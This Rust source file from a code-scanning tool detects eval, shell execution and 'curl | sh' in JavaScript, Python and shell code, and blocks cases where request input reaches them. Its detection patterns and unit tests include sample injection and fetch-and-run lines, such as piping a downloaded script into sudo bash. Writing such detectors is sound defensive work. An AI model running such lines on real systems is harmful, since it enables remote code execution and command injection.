//! Rules about what code does: evaluating text, and running commands by a shell.
//!
//! The same text each time is no finding. Something put together is worth a warning; when
//! what comes from outside gets in, it blocks. Arguments of the command line are not outside:
//! the service's description has them.

use std::{ops::Range, sync::LazyLock};

use bs9_api::types::SourceSeverity;
use regex::Regex;

use super::{
    call::{Call, Given, calls, first, given},
    language::Language,
    mask::Masked,
};

/// Something found at a place of a source.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Spotted {
    pub(super) rule: &'static str,
    pub(super) severity: SourceSeverity,
    pub(super) at: usize,
    pub(super) message: String,
    pub(super) hint: &'static str,
}

/// A source that rules look at.
pub(super) struct Source<'t> {
    pub(super) text: &'t str,
    pub(super) masked: &'t Masked,
    pub(super) language: Language,
}

/// What comes from outside, as it is written.
static JAVASCRIPT_INPUT: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"\b(req|request|ctx|context|event)\??\.(body|query|params|headers|url|cookies|rawBody|queryStringParameters)\b|\bawait\s+(req|request)\.(json|text|formData)\(|\bsearchParams\.get\(",
    )
});
static PYTHON_INPUT: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"\brequest\.(args|form|json|data|values|cookies|headers|GET|POST|get_json|query_params|path_params|body)\b|\binput\(|\bself\.(path|headers|rfile)\b|\b(scope|event)\[",
    )
});
static SHELL_INPUT: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"\$\{?(QUERY_STRING|REQUEST_URI|PATH_INFO|HTTP_[A-Z_]+|SSH_ORIGINAL_COMMAND|REPLY)\b")
});
/// `curl … | sh`: what somebody else's server says today is run.
static FETCHED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"\b(curl|wget)\b[^\n;&]*\|\s*(sudo\s+)?(env\s+)?(/\S*/)?(ba|da|z|k)?sh\b(\s|$|;|\))")
});
static SHELL_EVAL: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?m)(^|[;&|(]|\bthen|\bdo|\belse)[ \t]*eval[ \t]+"));
static SHELL_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?m)(^|[;&|(]|\bthen|\bdo|\belse|\bexec)[ \t]*(/\S*/)?(ba|da)?sh[ \t]+(-[a-z]+[ \t]+)*-[a-z]*c[ \t]+",
    )
});
static SHELL_READ: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"\bread[ \t]+(?:-[a-zA-Z]+[ \t]+)*([A-Za-z_][A-Za-z0-9_]*)"));
static CHILD_PROCESS_NAME: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?:const|let|var|import)\s+(?:\*\s+as\s+)?([A-Za-z_$][\w$]*)\s*(?:=\s*(?:await\s+)?(?:require|import)\(|from)\s*['"](?:node:)?child_process['"]"#,
    )
});
static CHILD_PROCESS_PARTS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?:const|let|var|import)\s*\{([^}]*)\}\s*(?:=\s*(?:await\s+)?(?:require|import)\(|from)\s*['"](?:node:)?child_process['"]"#,
    )
});
static PYTHON_PARTS: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?m)^\s*from\s+(subprocess|os)\s+import\s+\(?([^\n)]*)"));

fn pattern(text: &str) -> Regex {
    Regex::new(text).expect("the pattern is fixed, and tested")
}

/// Everything the rules find.
pub(super) fn look(source: &Source<'_>) -> Vec<Spotted> {
    let mut found = match source.language {
        Language::JavaScript => javascript(source),
        Language::Python => python(source),
        Language::Shell => shell(source),
    };
    found.sort_by_key(|spotted| spotted.at);
    found.dedup_by_key(|spotted| (spotted.at, spotted.rule));
    found
}

const EVAL_HINT: &str =
    "parse what is expected instead (JSON, a table of functions by name), or leave it out";
const SHELL_HINT: &str =
    "run the program itself with a list of arguments, so that no shell takes them apart";

fn javascript(source: &Source<'_>) -> Vec<Spotted> {
    let code = &source.masked.code;
    let mut found = Vec::new();
    let global = |on: &str| matches!(on, "" | "window" | "globalThis" | "global" | "self");
    for call in calls(code, "eval") {
        if global(&call.on) && call.word_before != "function" && !is_method(code, &call) {
            found.extend(evaluates(source, &call, "eval"));
        }
    }
    for call in calls(code, "Function") {
        if global(&call.on) && call.word_before == "new" {
            found.extend(evaluates(source, &call, "new Function"));
        }
    }
    for name in ["runInThisContext", "runInNewContext", "runInContext", "compileFunction"] {
        for call in calls(code, name) {
            if call.on == "vm" {
                found.extend(evaluates(source, &call, &format!("vm.{name}")));
            }
        }
    }
    let modules = child_process(source.text);
    for (name, local) in &modules.parts {
        for call in calls(code, local) {
            if call.on.is_empty() && call.word_before != "function" {
                found.extend(child(source, &call, name));
            }
        }
    }
    for name in ["exec", "execSync", "spawn", "spawnSync", "execFile", "execFileSync"] {
        for call in calls(code, name) {
            let direct = call.on == "()"
                && source.text[..call.at].trim_end_matches('.').ends_with("child_process')");
            if direct || modules.names.contains(&call.on) {
                found.extend(child(source, &call, name));
            }
        }
    }
    found
}

/// `eval(x) { … }` in a class is a definition.
fn is_method(code: &str, call: &Call) -> bool {
    call.on.is_empty() && code[call.arguments.end + 1..].trim_start().starts_with('{')
}

/// What a file calls the module that starts processes, and parts of it.
struct ChildProcess {
    names: Vec<String>,
    /// Each with what it is called in the file.
    parts: Vec<(String, String)>,
}

fn child_process(text: &str) -> ChildProcess {
    let names = CHILD_PROCESS_NAME.captures_iter(text).map(|found| found[1].to_owned()).collect();
    let mut parts = Vec::new();
    for found in CHILD_PROCESS_PARTS.captures_iter(text) {
        for part in found[1].split(',') {
            let mut words = part.split([':', ' ', '\n', '\t']).filter(|word| !word.is_empty());
            let Some(name) = words.next() else { continue };
            let local = words.rfind(|word| *word != "as").unwrap_or(name);
            parts.push((name.to_owned(), local.to_owned()));
        }
    }
    ChildProcess { names, parts }
}

/// A process started by node; `exec` always has a shell, `spawn` when asked for.
fn child(source: &Source<'_>, call: &Call, name: &str) -> Option<Spotted> {
    static SHELL: LazyLock<Regex> = LazyLock::new(|| pattern(r#"\bshell\s*:\s*(true|['"`])"#));
    let shell = match name {
        "exec" | "execSync" => true,
        "spawn" | "spawnSync" | "execFile" | "execFileSync" => {
            SHELL.is_match(&source.masked.code[call.arguments.clone()])
        }
        _ => false,
    };
    if !shell {
        return None;
    }
    // With arguments of their own, `spawn` still joins them for the shell.
    let range = match name.starts_with("exec") && !name.contains("File") {
        true => first(&source.masked.code, &call.arguments),
        false => call.arguments.clone(),
    };
    let fixed = match name.starts_with("exec") && !name.contains("File") {
        true => given(source.masked, &range) == Given::Fixed,
        false => only_texts(&source.masked.code[range.clone()]) && all_fixed(source, &range),
    };
    (!fixed).then(|| by_shell(source, call, &range, name))
}

/// Nothing in it but texts, lists of them, and the options of the call.
fn only_texts(code: &str) -> bool {
    let options = code.find('{').unwrap_or(code.len());
    code[..options].bytes().all(|byte| b" \t\n\r+'\"`()[],".contains(&byte))
}

fn all_fixed(source: &Source<'_>, range: &Range<usize>) -> bool {
    let within = |inner: &Range<usize>| range.start <= inner.start && inner.end <= range.end;
    source.masked.literals.iter().filter(|l| within(&l.inner)).all(|literal| literal.fixed)
}

fn python(source: &Source<'_>) -> Vec<Spotted> {
    let code = &source.masked.code;
    let mut found = Vec::new();
    for name in ["eval", "exec"] {
        for call in calls(code, name) {
            let own = call.on.is_empty() || call.on == "builtins";
            if own && call.word_before != "def" {
                found.extend(evaluates(source, &call, name));
            }
        }
    }
    for (on, name) in [
        ("os", "system"),
        ("os", "popen"),
        ("subprocess", "getoutput"),
        ("subprocess", "getstatusoutput"),
        ("asyncio", "create_subprocess_shell"),
    ] {
        for call in calls(code, name) {
            if call.on == on || (call.on.is_empty() && imported(source.text, on, name)) {
                found.extend(python_shell(source, &call, &format!("{on}.{name}")));
            }
        }
    }
    static SHELL: LazyLock<Regex> = LazyLock::new(|| pattern(r"\bshell\s*=\s*(True|1)\b"));
    for name in ["run", "call", "check_call", "check_output", "Popen"] {
        for call in calls(code, name) {
            let known = call.on == "subprocess"
                || (call.on.is_empty() && imported(source.text, "subprocess", name));
            if known && SHELL.is_match(&code[call.arguments.clone()]) {
                let what = format!("subprocess.{name}(shell=True)");
                found.extend(python_shell(source, &call, &what));
            }
        }
    }
    found
}

fn imported(text: &str, module: &str, name: &str) -> bool {
    PYTHON_PARTS
        .captures_iter(text)
        .any(|found| &found[1] == module && found[2].split(',').any(|part| part.trim() == name))
}

fn python_shell(source: &Source<'_>, call: &Call, what: &str) -> Option<Spotted> {
    let range = first(&source.masked.code, &call.arguments);
    (given(source.masked, &range) != Given::Fixed).then(|| by_shell(source, call, &range, what))
}

fn shell(source: &Source<'_>) -> Vec<Spotted> {
    let code = &source.masked.code;
    let mut found = Vec::new();
    for place in FETCHED.find_iter(code) {
        found.push(Spotted {
            rule: "runs-what-it-fetched",
            severity: SourceSeverity::Blocking,
            at: place.start(),
            message: "what a server answers is run by a shell, unseen".to_owned(),
            hint: "fetch it once to a file, look at it, compare its checksum, then run the file",
        });
    }
    for (pattern, rule, what) in
        [(&SHELL_EVAL, "eval", "`eval`"), (&SHELL_COMMAND, "shell", "a shell with `-c`")]
    {
        for place in pattern.find_iter(code) {
            let range = place.end()..end_of_command(code, place.end());
            let text = &source.text[range.clone()];
            // `eval "$(ssh-agent -s)"`: the output of a program that says what is to be done.
            let output = text.trim_start_matches('"').starts_with("$(");
            if !text.contains('$') && !text.contains('`') || output {
                continue;
            }
            // Single quotes keep everything as it is.
            if text.starts_with('\'') {
                continue;
            }
            let at = place.start() + leading(&code[place.range()]);
            found.push(composed(source, at, &range, rule, what));
        }
    }
    found
}

/// White space and separators before a command.
fn leading(text: &str) -> usize {
    text.find(|c: char| c.is_ascii_alphabetic() || c == '/').unwrap_or(0)
}

fn end_of_command(code: &str, start: usize) -> usize {
    code[start..].find(['\n', ';', '|', '&']).map_or(code.len(), |length| start + length)
}

fn evaluates(source: &Source<'_>, call: &Call, what: &str) -> Option<Spotted> {
    if given(source.masked, &call.arguments) == Given::Fixed
        || source.masked.code[call.arguments.clone()].trim().is_empty()
    {
        return None;
    }
    Some(composed(source, call.at, &call.arguments, "eval", &format!("`{what}`")))
}

fn by_shell(source: &Source<'_>, call: &Call, range: &Range<usize>, what: &str) -> Spotted {
    composed(source, call.at, range, "shell", &format!("`{what}`"))
}

fn composed(
    source: &Source<'_>,
    at: usize,
    range: &Range<usize>,
    rule: &'static str,
    what: &str,
) -> Spotted {
    let outside = from_outside(source, range);
    let (does, hint) = match rule {
        "eval" => ("runs text as code", EVAL_HINT),
        _ => ("runs a command by a shell", SHELL_HINT),
    };
    let (rule, severity, given) = match (outside, rule) {
        (true, "eval") => (
            "eval-with-input",
            SourceSeverity::Blocking,
            "in which there is what comes from outside",
        ),
        (true, _) => (
            "shell-with-input",
            SourceSeverity::Blocking,
            "in which there is what comes from outside",
        ),
        (false, rule) => (rule, SourceSeverity::Warning, "that is put together while it runs"),
    };
    Spotted { rule, severity, at, message: format!("{what} {does} {given}"), hint }
}

/// Whether what stands there has what comes from outside in it: by itself, or by a variable
/// that was given it.
fn from_outside(source: &Source<'_>, range: &Range<usize>) -> bool {
    let input: &Regex = match source.language {
        Language::JavaScript => &JAVASCRIPT_INPUT,
        Language::Python => &PYTHON_INPUT,
        Language::Shell => &SHELL_INPUT,
    };
    let text = &source.text[range.clone()];
    if input.is_match(text) {
        return true;
    }
    if source.language == Language::Shell {
        return SHELL_READ.captures_iter(&source.masked.code).any(|read| {
            let name = &read[1];
            text.contains(&format!("${name}")) || text.contains(&format!("${{{name}"))
        });
    }
    names(text).any(|name| assignments(source, name).any(|assigned| input.is_match(assigned)))
}

/// Names that stand in a text, interpolated ones too.
fn names(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != '$').filter(|word| {
        word.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') && word.len() < 64
    })
}

/// What is assigned to a name anywhere in the file, to the end of the line.
fn assignments<'s>(source: &Source<'s>, name: &str) -> impl Iterator<Item = &'s str> + use<'s> {
    let code = source.masked.code.as_bytes();
    let text = source.text;
    let places: Vec<usize> = source
        .masked
        .code
        .match_indices(name)
        .filter(|(at, _)| *at == 0 || !super::mask::is_name(code[*at - 1]))
        .filter_map(|(at, _)| {
            let rest = &source.masked.code[at + name.len()..];
            // `{ name } = req.body` and `name: type = …` as well.
            let after = rest.trim_start_matches([' ', '\t', '}', ']', ')']);
            (after.starts_with('=') && !after.starts_with("==") && !after.starts_with("=>"))
                .then_some(at)
        })
        .collect();
    places.into_iter().map(move |at| text[at..].lines().next().unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(language: Language, text: &str) -> Vec<(&'static str, SourceSeverity)> {
        let masked = Masked::new(text, language);
        let source = Source { text, masked: &masked, language };
        look(&source).into_iter().map(|spotted| (spotted.rule, spotted.severity)).collect()
    }

    const BLOCKS: SourceSeverity = SourceSeverity::Blocking;
    const WARNS: SourceSeverity = SourceSeverity::Warning;

    #[test]
    fn javascript_that_is_told() {
        let cp = "const cp = require('child_process');\n";
        let parts = "import { exec, spawn as start, execSync } from 'node:child_process'\n";
        let cases = [
            ("eval(code)".to_owned(), "eval", WARNS),
            ("globalThis.eval(a + b)".to_owned(), "eval", WARNS),
            ("eval(req.body.code)".to_owned(), "eval-with-input", BLOCKS),
            ("const x = req.query.x\neval('f(' + x + ')')".to_owned(), "eval-with-input", BLOCKS),
            ("new Function('a', body)".to_owned(), "eval", WARNS),
            ("vm.runInNewContext(request.body)".to_owned(), "eval-with-input", BLOCKS),
            (format!("{cp}cp.exec(`ls ${{dir}}`)"), "shell", WARNS),
            (format!("{cp}cp.exec('ls ' + req.params.dir)"), "shell-with-input", BLOCKS),
            (format!("{parts}exec(command, () => 1)"), "shell", WARNS),
            (
                format!("{parts}const {{ d }} = req.query\nexecSync(`ls ${{d}}`)"),
                "shell-with-input",
                BLOCKS,
            ),
            (format!("{parts}start('ls', [dir], {{ shell: true }})"), "shell", WARNS),
            ("require('child_process').exec(x)".to_owned(), "shell", WARNS),
        ];
        for (text, rule, severity) in cases {
            assert_eq!(found(Language::JavaScript, &text), [(rule, severity)], "{text}");
        }
    }

    #[test]
    fn javascript_that_is_fine() {
        let cp = "const cp = require('child_process');\n";
        for text in [
            "// eval(x)\nconst s = 'eval(x)'".to_owned(),
            "/eval(x)/.exec(line)".to_owned(),
            "const m = pattern.exec(line)".to_owned(),
            "db.exec(sql)".to_owned(),
            "class A { eval(x) { return x } }".to_owned(),
            "function eval(x) {}".to_owned(),
            "redis.eval(script, 1, key)".to_owned(),
            "eval('1 + 1')".to_owned(),
            format!("{cp}cp.exec('git rev-parse HEAD', done)"),
            format!("{cp}cp.execFile('git', [branch])"),
            format!("{cp}cp.spawn('git', [branch])"),
            format!("{cp}cp.spawn('ls -l', {{ shell: true, cwd: dir }})"),
            "const fs = require('fs')\nfs.readFile(name)".to_owned(),
        ] {
            assert_eq!(found(Language::JavaScript, &text), [], "{text}");
        }
    }

    #[test]
    fn python_that_is_told() {
        let cases = [
            ("eval(text)", "eval", WARNS),
            ("exec(compile(text, 'a', 'exec'))", "eval", WARNS),
            ("eval(request.args['q'])", "eval-with-input", BLOCKS),
            ("q = request.form['q']\neval(q)", "eval-with-input", BLOCKS),
            ("import os\nos.system('ls ' + d)", "shell", WARNS),
            ("os.popen(f'ls {d}')", "shell", WARNS),
            ("subprocess.run(f'ls {self.path}', shell=True)", "shell-with-input", BLOCKS),
            ("from subprocess import run, PIPE\nrun(cmd, shell=True)", "shell", WARNS),
            ("await asyncio.create_subprocess_shell(cmd)", "shell", WARNS),
        ];
        for (text, rule, severity) in cases {
            assert_eq!(found(Language::Python, text), [(rule, severity)], "{text}");
        }
    }

    #[test]
    fn python_that_is_fine() {
        for text in [
            "# eval(x)\n'''\nos.system(x)\n'''",
            "model.eval()",
            "eval('1+1')",
            "def exec(self): pass",
            "ast.literal_eval(text)",
            "os.system('sync')",
            "subprocess.run(['ls', d])",
            "subprocess.run('ls -l', shell=True)",
            "subprocess.run(args, shell=False)",
            "cursor.execute(sql)",
            "executor.run(task, shell=True)",
        ] {
            assert_eq!(found(Language::Python, text), [], "{text}");
        }
    }

    #[test]
    fn shell_that_is_told() {
        let cases = [
            ("eval \"$CMD\"", "eval", WARNS),
            ("read -r line\neval $line", "eval-with-input", BLOCKS),
            ("eval \"x=$QUERY_STRING\"", "eval-with-input", BLOCKS),
            ("if true; then sh -c \"ls $1\"; fi", "shell", WARNS),
            ("exec bash -ec \"$HTTP_COOKIE\"", "shell-with-input", BLOCKS),
            ("curl -fsSL https://x.example/i.sh | sh", "runs-what-it-fetched", BLOCKS),
            ("wget -qO- https://x.example | sudo bash -s", "runs-what-it-fetched", BLOCKS),
        ];
        for (text, rule, severity) in cases {
            assert_eq!(found(Language::Shell, text), [(rule, severity)], "{text}");
        }
    }

    #[test]
    fn shell_that_is_fine() {
        for text in [
            "# eval $x\necho 'eval $x'",
            "eval \"$(ssh-agent -s)\"",
            "sh -c 'echo $1' -- \"$x\"",
            "echo evaluate $x",
            "curl -fsSL https://x.example -o file",
            "curl https://x.example | jq .",
            "cat <<EOF\neval $x\nEOF",
            "exec node server.js",
        ] {
            assert_eq!(found(Language::Shell, text), [], "{text}");
        }
    }
}
